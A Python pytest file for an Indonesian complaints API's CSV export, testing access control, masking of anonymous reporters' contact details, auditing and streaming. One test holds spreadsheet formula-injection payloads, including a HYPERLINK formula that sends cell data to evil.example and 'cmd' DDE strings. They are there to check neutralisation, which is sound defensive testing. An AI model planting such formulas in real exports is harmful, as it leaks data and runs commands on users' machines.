"""GET /v1/complaints with Accept: text/csv: the list's query as a streamed CSV file."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Awaitable, Callable
from typing import Any

import asyncpg
import httpx
import pytest
from fastapi import FastAPI

from app.complaints import export, repository
from app.complaints.schemas import ComplaintFilters
from app.core.security import Principal
from tests.helpers import transition

Headers = dict[str, str]
MakeKey = Callable[..., Awaitable[Headers]]
CSV = {"Accept": "text/csv"}


async def _post(client: httpx.AsyncClient, headers: Headers, **body: Any) -> str:
    r = await client.post("/v1/complaints", json=body, headers=headers)
    assert r.status_code == 201, r.text
    cid: str = r.json()["id"]
    return cid


async def _export(client: httpx.AsyncClient, headers: Headers, **params: Any) -> list[dict[str, str]]:
    r = await client.get("/v1/complaints", params=params, headers={**headers, **CSV})
    assert r.status_code == 200, r.text
    return list(csv.DictReader(io.StringIO(r.text, newline="")))


async def _listed(client: httpx.AsyncClient, headers: Headers, **params: Any) -> list[str]:
    r = await client.get("/v1/complaints", params={"limit": 100, **params}, headers=headers)
    assert r.status_code == 200, r.text
    return [i["id"] for i in r.json()["items"]]


async def test_a_csv_file_with_its_header_row(
    client: httpx.AsyncClient, app_key: Headers, officer: Headers
) -> None:
    cid = await _post(
        client,
        app_key,
        title="Jalan berlubang",
        description="Lubang besar, dua motor jatuh.\nMohon segera.",
        category="roads",
        location={"lat": -6.1915, "lon": 106.8412, "address": "Jl. Cikini Raya 45"},
    )
    r = await client.get("/v1/complaints", headers={**officer, **CSV})
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(
        r'attachment; filename="aduan-complaints-\d{8}T\d{6}Z\.csv"', r.headers["content-disposition"]
    )
    assert r.headers["cache-control"] == "no-store"
    assert r.text.split("\r\n", 1)[0] == ",".join(export.COLUMNS)
    [row] = list(csv.DictReader(io.StringIO(r.text, newline="")))
    single = (await client.get(f"/v1/complaints/{cid}", headers=officer)).json()
    assert row["id"] == cid
    assert row["ticket"] == single["ticket"]
    assert row["title"] == "Jalan berlubang"
    assert row["description"] == "Lubang besar, dua motor jatuh.\nMohon segera."  # quoted, not split
    assert (row["channel"], row["category"], row["status"], row["privacy"]) == (
        "jaki",
        "roads",
        "received",
        "public",
    )
    # numbers stay numbers (a negative latitude is not a formula)
    assert (float(row["lat"]), float(row["lon"])) == (-6.1915, 106.8412)
    assert row["supports"] == "0"
    assert row["resolved_at"] == ""
    # no reporter column, whatever the complaint carried
    assert not {"reporter", "name", "phone", "email", "nik"} & set(row)


async def test_the_same_rows_as_the_json_list(
    client: httpx.AsyncClient, app_key: Headers, officer: Headers
) -> None:
    for i in range(4):
        await _post(client, app_key, description=f"Jalan rusak nomor {i} " + "rusak " * i, category="roads")
        await _post(client, app_key, description=f"Sampah di jalan nomor {i}", category="rubbish")
    await _post(client, app_key, description="Pohon tumbang menimpa kabel.", category="roads")
    moved = await _post(client, app_key, description="Jalan rusak di depan sekolah", category="roads")
    assert (await transition(client, moved, {"status": "in_progress"}, officer)).status_code == 200

    for params in (
        {},
        {"category": "roads"},
        {"q": "jalan rusak"},
        {"q": "jalan", "category": "rubbish"},
        {"q": "rusak", "status": "in_progress"},
        {"status": ["received", "in_progress"], "category": "roads"},
    ):
        rows = await _export(client, officer, **params)
        assert [r["id"] for r in rows] == await _listed(client, officer, **params), params
    # an explicit limit: the first rows of the same order
    rows = await _export(client, officer, q="jalan", limit=3)
    assert [r["id"] for r in rows] == (await _listed(client, officer, q="jalan"))[:3]


@pytest.fixture
async def two_units(
    client: httpx.AsyncClient, admin: Headers, make_key: MakeKey, db: asyncpg.Connection
) -> dict[str, Any]:
    keys: dict[str, Headers] = {"admin": admin}
    for code in ("kel-a", "kel-b"):
        r = await client.post(
            "/v1/units", json={"code": code, "name": code, "kind": "kelurahan"}, headers=admin
        )
        assert r.status_code == 201, r.text
        r = await client.post(
            "/v1/officers",
            json={"name": f"petugas {code}", "unit": code, "role": "officer", "capacity": 0, "api_key": True},
            headers=admin,
        )
        assert r.status_code == 201, r.text
        keys[code] = {"Authorization": f"Bearer {r.json()['api_key']}"}
    keys["app"] = await make_key("app")
    keys["partner"] = await make_key("partner")
    keys["supervisor"] = await make_key("supervisor")
    ids: dict[str, list[str]] = {"kel-a": [], "kel-b": []}
    for unit, privacy in (
        ("kel-a", "public"),
        ("kel-a", "secret"),
        ("kel-a", "anonymous"),
        ("kel-b", "public"),
    ):
        cid = await _post(client, keys["app"], description=f"Banjir di {unit} ({privacy})", privacy=privacy)
        await db.execute(
            "UPDATE complaints SET unit_code = $1, assignee_id = NULL WHERE id = $2::uuid", unit, cid
        )
        ids[unit].append(cid)
    return {"keys": keys, "ids": ids}


async def test_who_may_export_what(client: httpx.AsyncClient, two_units: dict[str, Any]) -> None:
    keys, ids = two_units["keys"], two_units["ids"]
    # the officer of kel-b exports none of kel-a's complaints; kel-a's officer all of its own
    assert {r["id"] for r in await _export(client, keys["kel-b"])} == set(ids["kel-b"])
    assert {r["id"] for r in await _export(client, keys["kel-a"], q="banjir")} == set(ids["kel-a"])
    assert {r["id"] for r in await _export(client, keys["admin"])} == set(ids["kel-a"] + ids["kel-b"])
    assert (await client.get("/v1/complaints", headers={**keys["supervisor"], **CSV})).status_code == 200
    # app and partner keys list what they submitted as JSON, but export nothing
    for who in ("app", "partner"):
        r = await client.get("/v1/complaints", headers={**keys[who], **CSV})
        assert r.status_code == 403, r.text
        assert r.headers["content-type"].startswith("application/problem+json")
        assert (await client.get("/v1/complaints", headers=keys[who])).status_code == 200
    r = await client.get("/v1/complaints", headers=CSV)
    assert r.status_code == 401
    assert r.headers["content-type"].startswith("application/problem+json")


async def test_anonymous_text_is_masked_below_admin_and_no_reporter_data(
    client: httpx.AsyncClient, app_key: Headers, officer: Headers, admin: Headers
) -> None:
    text = "Saluran mampet. Hubungi saya di 0812-1111-7890 atau budi.s@gmail.com"
    anon = await _post(
        client,
        app_key,
        title="Info 0812-1111-7890",
        description=text,
        privacy="anonymous",
        reporter={"name": "Budi Santoso", "phone": "0813-2222-3333", "email": "budi.s@gmail.com"},
    )
    public = await _post(
        client, app_key, description=text, reporter={"name": "Siti Aminah", "phone": "0813-4444-5555"}
    )
    officer_csv = (await client.get("/v1/complaints", headers={**officer, **CSV})).text
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(officer_csv, newline=""))}
    assert rows[anon]["description"] == "Saluran mampet. Hubungi saya di 0812-****-7890 atau b***@***.com"
    assert rows[anon]["title"] == "Info 0812-****-7890"
    assert rows[public]["description"] == text  # as the JSON list shows it to this officer
    admin_rows = {r["id"]: r for r in await _export(client, admin)}
    assert admin_rows[anon]["description"] == text
    for body in (officer_csv, (await client.get("/v1/complaints", headers={**admin, **CSV})).text):
        for personal in ("Budi Santoso", "Siti Aminah", "2222", "4444", "+62813"):
            assert personal not in body


async def test_formulas_are_neutralised(
    client: httpx.AsyncClient, app_key: Headers, officer: Headers
) -> None:
    # through the API: stored text that starts like a formula gets a leading '
    stored = {
        "title": '=HYPERLINK("http://evil.example/?"&A1,"klik")',
        "description": "@SUM(1,2) -> cmd|' /C calc'!A0",
    }
    cid = await _post(client, app_key, **stored)
    harmless = await _post(client, app_key, title="Jalan = rusak", description="Lubang -2 meter")
    rows = {r["id"]: r for r in await _export(client, officer)}
    assert rows[cid]["title"] == "'" + stored["title"]
    assert rows[cid]["description"] == "'" + stored["description"]
    assert (rows[harmless]["title"], rows[harmless]["description"]) == ("Jalan = rusak", "Lubang -2 meter")
    # every starting character of the rule (JSON bodies are stripped, so TAB and CR cannot start
    # a stored text through the API; other channels store what they receive)
    for dangerous in ("=1+1", "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)", "\t=1+1", "\r=1+1"):
        assert export.neutralise(dangerous) == "'" + dangerous
    for fine in ("Jalan = rusak", " =1", "'=1", ""):
        assert export.neutralise(fine) == fine


async def test_every_export_is_audited(
    client: httpx.AsyncClient, officer: Headers, app_key: Headers, db: asyncpg.Connection
) -> None:
    await _post(client, app_key, description="Jalan rusak", category="roads")
    rows = await _export(client, officer, q="jalan", category="roads", limit=50)
    assert len(rows) == 1
    await _export(client, officer)
    audits = await db.fetch(
        "SELECT actor, actor_role, action, target_type, data FROM audit_log WHERE action = 'complaints.export' ORDER BY id"
    )
    assert len(audits) == 2
    first = audits[0]
    assert first["actor"] == "officer:officer-key"
    assert first["actor_role"] == "officer"
    assert first["target_type"] == "complaints"
    data = json.loads(first["data"])
    assert data["format"] == "csv"
    assert data["filters"] == {"q": "jalan", "category": ["roads"]}
    assert data["limit"] == 50
    assert json.loads(audits[1]["data"])["filters"] == {}
    assert json.loads(audits[1]["data"])["limit"] is None
    # a refused export leaves no record; nor does the JSON list
    await client.get("/v1/complaints", headers={**app_key, **CSV})
    await client.get("/v1/complaints", headers=officer)
    assert await db.fetchval("SELECT count(*) FROM audit_log WHERE action = 'complaints.export'") == 2


async def _many(db: asyncpg.Connection, n: int) -> None:
    await db.execute(
        "INSERT INTO complaints (ticket, channel, title, description, category, created_at) "
        "SELECT 'E' || lpad(i::text, 8, '0'), 'jaki', 'Keluhan ' || i, 'Sampah menumpuk nomor ' || i, 'rubbish', "
        "now() - i * interval '1 second' FROM generate_series(1, $1::int) i",
        n,
    )


async def test_a_large_export_streams_completely(
    client: httpx.AsyncClient, officer: Headers, db: asyncpg.Connection, app: FastAPI
) -> None:
    await _many(db, 3000)
    rows = await _export(client, officer)
    assert len(rows) == 3000
    assert len({r["id"] for r in rows}) == 3000
    assert rows[0]["ticket"] == "E00000001"  # newest first
    assert rows[-1]["ticket"] == "E00003000"
    assert len(await _export(client, officer, limit=1234)) == 1234
    # in chunks: the header, then EXPORT_CHUNK rows at a time from a server-side cursor
    flt = repository.complaint_filter(ComplaintFilters())
    admin = Principal(id="test", name="test", role="admin")
    chunks = [c async for c in export.stream_csv(app.state.db, flt, admin, limit=3000, cursor=None)]
    assert len(chunks) == 1 + 3000 // export.EXPORT_CHUNK
    assert sum(c.count(b"\r\n") for c in chunks) == 3001


async def test_an_export_over_the_maximum_is_refused(
    client: httpx.AsyncClient, officer: Headers, db: asyncpg.Connection, monkeypatch: pytest.MonkeyPatch
) -> None:
    await _many(db, 30)
    monkeypatch.setattr(export, "EXPORT_MAX_ROWS", 25)
    r = await client.get("/v1/complaints", headers={**officer, **CSV})
    assert r.status_code == 422, r.text
    assert r.headers["content-type"].startswith("application/problem+json")
    assert r.json()["type"].endswith("/export-too-large")
    assert r.json()["max_rows"] == 25
    assert await db.fetchval("SELECT count(*) FROM audit_log WHERE action = 'complaints.export'") == 0
    # narrower filters, or an explicit limit, export
    assert len(await _export(client, officer, limit=25)) == 25
    assert len(await _export(client, officer, q="nomor", limit=10)) == 10


async def test_limits(client: httpx.AsyncClient, officer: Headers) -> None:
    # a JSON page is at most 100; an export may ask for up to EXPORT_MAX_ROWS
    r = await client.get("/v1/complaints", params={"limit": 101}, headers=officer)
    assert r.status_code == 422
    assert r.headers["content-type"].startswith("application/problem+json")
    assert (
        await client.get("/v1/complaints", params={"limit": 101}, headers={**officer, **CSV})
    ).status_code == 200
    for bad in (0, export.EXPORT_MAX_ROWS + 1):
        r = await client.get("/v1/complaints", params={"limit": bad}, headers={**officer, **CSV})
        assert r.status_code == 422, bad
    r = await client.get("/v1/complaints", params={"q": "x" * 1000}, headers={**officer, **CSV})
    assert r.status_code == 422


@pytest.mark.parametrize(
    ("accept", "csv_wanted"),
    [
        (None, False),
        ("*/*", False),
        ("application/json", False),
        ("text/csv", True),
        ("TEXT/CSV; charset=utf-8", True),
        ("text/csv;q=0.9, application/json", False),
        ("application/json;q=0.5, text/csv", True),
        ("text/csv;q=0", False),
        ("text/html, text/csv", True),
        ("text/csv;q=abc", False),
    ],
)
def test_accept_negotiation(accept: str | None, csv_wanted: bool) -> None:
    assert export.wants_csv(accept) is csv_wanted
